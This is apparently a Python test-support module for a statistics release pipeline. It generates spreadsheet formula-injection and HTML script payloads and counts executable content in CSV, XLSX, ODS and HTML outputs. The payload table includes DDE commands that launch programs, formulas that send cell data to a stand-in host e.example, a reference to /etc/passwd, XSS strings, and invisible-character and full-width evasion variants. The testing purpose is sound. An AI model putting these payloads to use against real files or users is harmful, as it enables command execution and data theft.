"""Text that wants to become a formula, a link or a script, and who finds it alive in a file.

What counts as alive is written here apart from ``pipelines``: a sign at the start of what a program
could take for a cell, whatever it strips first.
"""

from __future__ import annotations

import csv
import io
import random
import re
import unicodedata
import zipfile
from collections.abc import Iterable
from dataclasses import dataclass, replace
from html.parser import HTMLParser

import pandas as pd

from pipelines.contract.release_tables import NamedAuthority, Protected, ProtectedTable

FORMULAS = {
    "a sum": "=1+1",
    "a link": '=HYPERLINK("http://e.example/?"&A1,"Error: click")',
    "dynamic data exchange": '=DDE("cmd";"/C calc";"x")',
    "a command": "=cmd|'/C calc'!A0",
    "a command without an equals sign": "cmd|'/C calc'!A0",
    "a command behind a plus": "+cmd|'/C calc'!A0",
    "a command behind a minus": "-2+3+cmd|'/C calc'!A0",
    "a command behind an at": "@SUM(1+9)*cmd|'/C calc'!A0",
    "a page read in": '=IMPORTXML(CONCAT("http://e.example/?v=",A1),"//a")',
    "a picture read in": '=IMAGE("http://e.example/p.png?"&A1)',
    "a service": '=WEBSERVICE("http://e.example/"&A1)',
    "an old macro": '=EXEC("calc.exe")',
    "a pipe": "|calc",
    "an escape": "%0A=1+1",
    "another file": "='file:///etc/passwd'#$passwd.A1",
    "a script": "<script>alert(1)</script>",
    "a picture with a script": '"><img src=x onerror=alert(1)>',
    "a link to a script": "[x](javascript:alert(1))",
}
LEADS = {
    "nothing": "",
    "blanks": "   ",
    "a tab": "\t",
    "a line end": "\n",
    "both line ends": "\r\n",
    "a no-break space": "\u00a0",
    "an ideographic space": "\u3000",
    "a zero-width space": "\u200b",
    "a byte order mark": "\ufeff",
    "a word joiner": "\u2060",
    "a sign of direction": "\u202e",
    "a nought byte": "\x00",
    "a quotation mark": '"',
    "a name and a semicolon": "Perth;",
    "a name and a comma": "Perth, ",
    "a name and a tab": "Perth\t",
    "a closed quotation": 'Perth",',
}
WIDE = str.maketrans("=+-@|", "＝＋－＠｜")
SMALL = str.maketrans("=+-@", "﹦﹢﹣﹫")
FORMS = {"as it is": {}, "full width": WIDE, "small forms": SMALL}
SIGNS = "=+-@|%"


@dataclass(frozen=True)
class Payload:
    """A text and what it is."""

    kind: str
    lead: str
    form: str
    text: str


def payloads(count: int, seed: int = 7) -> list[Payload]:
    """Return so many different payloads; the first are every kind as it is."""
    dice = random.Random(seed)
    every = [
        Payload(kind, lead, form, _changed(before, text, FORMS[form]))
        for kind, text in FORMULAS.items()
        for lead, before in LEADS.items()
        for form in FORMS
    ]
    plain = [p for p in every if p.lead == "nothing" and p.form == "as it is"]
    rest = [p for p in every if p not in plain]
    dice.shuffle(rest)
    while len(plain) + len(rest) < count:
        one, other = dice.choice(list(LEADS)), dice.choice(every)
        text = LEADS[one] + other.text
        rest.append(Payload(other.kind, f"{one}, then {other.lead}", other.form, text))
    return (plain + rest)[:count]


def _changed(before: str, text: str, form: dict[int, int]) -> str:
    return before + text[0].translate(form) + text[1:]


def poisoned(protected: Protected, texts: list[str]) -> Protected:
    """Return a release with one table whose text cells, and one authority whose name, are these."""
    table = protected.table("waiting_now_groups_by_quarter")
    rows = pd.concat([table.frame.iloc[:1]] * len(texts), ignore_index=True)
    codes = [f"S{12000000 + i}" for i in range(len(texts))]
    poison = rows.assign(area=codes, area_name=texts, variant=texts)
    changed = ProtectedTable(table.shape, poison)
    tables = tuple(changed if t is table else t for t in protected.tables)
    named = tuple(
        NamedAuthority(code, text, f"a{i}", protected.day, is_engaged=True)
        for i, (code, text) in enumerate(zip(codes, texts, strict=True))
    )
    return replace(protected, tables=tables, named=named[:1])


def could_run(text: str) -> bool:
    """Return whether a program could take a cell for a formula, stripped of what is not seen."""
    plain = unicodedata.normalize("NFKC", text)
    seen = [c for c in plain if unicodedata.category(c)[0] not in "CZ"]
    return bool(seen) and seen[0] in SIGNS


def live_in_csv(content: bytes) -> int:
    """Count what could run in the cells of a CSV file, whichever separator its reader expects."""
    text = content.decode("utf-8")
    cells = {
        cell
        for separator in ",;\t"
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        for cell in row
        if not re.fullmatch(r"-?\d+(\.\d+)?", cell)
    }
    return sum(map(could_run, cells))


def live_in_xlsx(content: bytes) -> int:
    """Count formulas, data connections and links to outside."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    outside = sum(b'TargetMode="External"' in data for data in parts.values())
    other = sum(any(w in n for w in ("externalLink", "connections", "vba")) for n in parts)
    return outside + other + sum(len(re.findall(rb"<f[ >]", d)) for d in parts.values())


def live_in_ods(content: bytes) -> int:
    """Count formulas, scripts and links to outside."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        text = archive.read("content.xml").decode()
    links = re.findall(r'xlink:href="([^"]*)"', text)
    alive = len(re.findall(r"table:formula=|<office:event|<script|table:dde-", text))
    return alive + sum(not link.startswith("#") for link in links)


class _Pages(HTMLParser):
    """Counts what of a page could run, or leads outside."""

    def __init__(self) -> None:
        super().__init__()
        self.alive = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.alive += tag in ("script", "iframe", "object", "embed", "img", "base", "form")
        for name, value in attrs:
            leads = name in ("href", "src") and re.match(r"\s*(javascript|https?):", value or "")
            self.alive += bool(name.startswith("on") or leads)


def live_in_html(content: bytes) -> int:
    """Count scripts, handlers, frames and links to outside."""
    reader = _Pages()
    reader.feed(content.decode("utf-8"))
    return reader.alive


BY_ENDING = {
    ".csv": live_in_csv,
    ".xlsx": live_in_xlsx,
    ".ods": live_in_ods,
    ".html": live_in_html,
}


def live_in(files: Iterable[tuple[str, bytes]]) -> dict[str, int]:
    """Return how much is alive in files, by ending."""
    out = dict.fromkeys(BY_ENDING, 0)
    for name, content in files:
        ending = f".{name.rsplit('.', 1)[-1]}"
        if ending in BY_ENDING:
            out[ending] += BY_ENDING[ending](content)
    return out
